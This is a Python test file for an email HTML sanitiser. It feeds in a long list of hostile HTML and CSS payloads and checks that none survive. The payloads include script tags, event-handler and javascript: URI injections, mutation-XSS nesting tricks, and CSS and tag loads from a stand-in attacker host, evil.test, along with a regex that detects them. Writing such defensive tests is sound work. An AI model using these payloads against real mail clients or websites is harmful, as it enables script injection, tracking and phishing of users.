"""Hostile HTML: nothing runs, nothing loads, nothing leaves."""
# ruff: noqa: E501 - one row a line is how a table is read

from __future__ import annotations

import re

import pytest

from tests.shared import shared
from tradepost.mail.mime import take_apart
from tradepost.mail.sanitise import document, sanitise

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)><animate href='javascript:alert(1)'></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='data:image/svg+xml,<svg onload=alert(1)>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<iframe src='https://evil.test'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.test/x.swf'></object><embed src='https://evil.test'>",
    "<form action='https://evil.test'><input name=q><button formaction='javascript:alert(1)'>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href='https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<style>@import url(https://evil.test/x.css)</style>",
    "<p style='background:url(https://evil.test/t.gif)'>x</p>",
    "<p style='color:url(https://evil.test/t.gif)'>x</p>",
    "<p style='background:u\\72l(https://evil.test/t.gif)'>x</p>",
    "<p style='background:/**/url(https://evil.test/t.gif)'>x</p>",
    "<p style='background-image:image-set(\"https://evil.test/t.gif\" 1x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;z-index:9'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
    "<body onload=alert(1) background='https://evil.test/t.gif'>x",
    "<table background='https://evil.test/t.gif'><tr><td background='//evil.test/x'>x</td></tr></table>",
    "<img srcset='https://evil.test/t.gif 2x'><picture><source srcset='https://evil.test/t'></picture>",
    "<video poster='https://evil.test/t.gif' src='https://evil.test/v'></video><audio src='//evil.test/a'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<a href='https://ok.test' target=_self onclick=alert(1) ping='https://evil.test'>x</a>",
    "<select><option><style></select><script>alert(1)</script></style></select>",
    "<textarea><script>alert(1)</script></textarea>",
    "<img src='//evil.test/t.gif'><img src='\thttps://evil.test/t.gif'>",
    "<img src='/logout'><img src='../x'>",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<a href='https://bank.example@evil.test/'>x</a>",
    "<a href='https://bank.example:x@evil.test/'>x</a>",
    "<a href='https://bank.example\\@evil.test/'>x</a>",
    "<a href='intent://evil.test#Intent;end'>x</a><a href='file:///evil.test'>x</a><a href='//evil.test'>x</a>",
    "<a href='\u2028javascript:alert(1)' xlink:href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>x</dialog><portal src='//evil.test'></portal>",
    "<map name=m><area href='javascript:alert(1)'></map><img usemap='#m' lowsrc='//evil.test' dynsrc='//evil.test'>",
    "<blockquote cite='https://evil.test'><q cite='//evil.test'>x</q><del cite='//evil.test'>x</del></blockquote>",
    "<svg><image href='//evil.test/x'/><use href='data:image/svg+xml,x'/><foreignObject><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><caption><style></table><img src=x onerror=alert(1)>",
    "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset><applet code='evil.test'></applet>",
    "<p style='list-style:url(//evil.test)'><p style='border-image:url(//evil.test)'><p style='cursor:url(//evil.test)'>x",
    "<p style='--x:url(//evil.test);color:var(--x)'><p style='filter:url(//evil.test#x)'><p style='content:url(//evil.test)'>x",
    "<p style='background:&#117;rl(//evil.test)'><p style='color:red;}body{background:url(//evil.test)}'>x",
    "<img src='http:evil.test/t.gif'><img src='\\\\evil.test\\t'><img src='/\\evil.test/t'><img src=' \x01//evil.test/t'>",
    "<img src='ftp://evil.test/t'><img src='blob:x'><img src='data:text/html,x'><img src='DATA:image/svg+xml,<svg onload=1>'>",
]
FORBIDDEN = re.compile(
    r"<[^>]*(?:\son\w+\s*=|javascript:|vbscript:|evil\.test|srcset|ping=|url\(|expression|position|/logout|data:)"
    r"|<(?:script|style|iframe|object|embed|form|input|button|meta|base|link|svg|math|template|textarea|video|audio)",
    re.I,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs_and_nothing_loads(payload: str) -> None:
    clean = sanitise(f"<div>before</div>{payload}<div>after</div>").html
    assert not FORBIDDEN.search(clean), clean
    assert "before" in clean


def test_remote_images_are_counted_and_come_back_when_asked_for() -> None:
    html = "<img src='https://cdn.test/a.png' alt=logo><img src='//cdn.test/b.png'><p style='background:url(http://x)'>x"
    assert sanitise(html).blocked_images == 3
    shown = sanitise(html, remote_images=True)
    assert shown.blocked_images == 0
    assert 'src="https://cdn.test/a.png"' in shown.html


def test_attached_images_are_served_by_us() -> None:
    found = sanitise("<img src='cid:a@b'><img src='cid:unknown'>", {"a@b": "/files/7"})
    assert 'src="/files/7"' in found.html
    assert "cid:" not in found.html
    assert found.blocked_images == 0


def test_small_pictures_within_the_mail_stay() -> None:
    assert "data:image/png" in sanitise("<img src='data:image/png;base64,iVBORw0='>").html


def test_links_open_elsewhere_and_tell_nothing() -> None:
    assert sanitise("<a href='https://x.test/'>x</a>").html == (
        '<a href="https://x.test/" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )


def test_the_look_of_a_mail_survives() -> None:
    html = '<table width="600" bgcolor="#ffffff"><tbody><tr><td style="color:rgb(1, 2, 3);font-family:Arial, sans-serif">x</td></tr></tbody></table>'
    assert sanitise(html).html == html


def test_the_document_lets_nothing_in() -> None:
    page = document("<p>x</p>")
    assert "default-src &#x27;none&#x27;; img-src data: &#x27;self&#x27;;" in page
    assert "https:" not in page
    assert "https: http:" in document("<p>x</p>", remote_images=True)
    assert 'class="dark"' not in page
    assert 'class="dark"' in document("<p>x</p>", dark=True)
    assert 'class="dark"' not in document('<p style="color:red">x</p>', dark=True)


@pytest.mark.parametrize(
    "piece", ["<div>", "<b><i>", "<table>", "<", "<a href='", "<p style='color:", "&", "<!--", "</p>"]
)
def test_hostile_nesting_comes_back(piece: str) -> None:
    """A quadratic way through would take minutes."""
    sanitise(piece * (1_000_000 // len(piece)))


def test_html_of_the_corpus() -> None:
    for path in shared("corpora/mime").rglob("*.*"):
        html = take_apart(path.read_bytes()).html
        if html:
            assert not re.search(r"<script|\son\w+=", sanitise(html).html)


def test_a_megabyte_of_spaces_that_do_not_break_is_read_in_one_go() -> None:
    assert sanitise("\xa0" * 1_000_000 + "<b>x</b>").html.endswith("<b>x</b>")
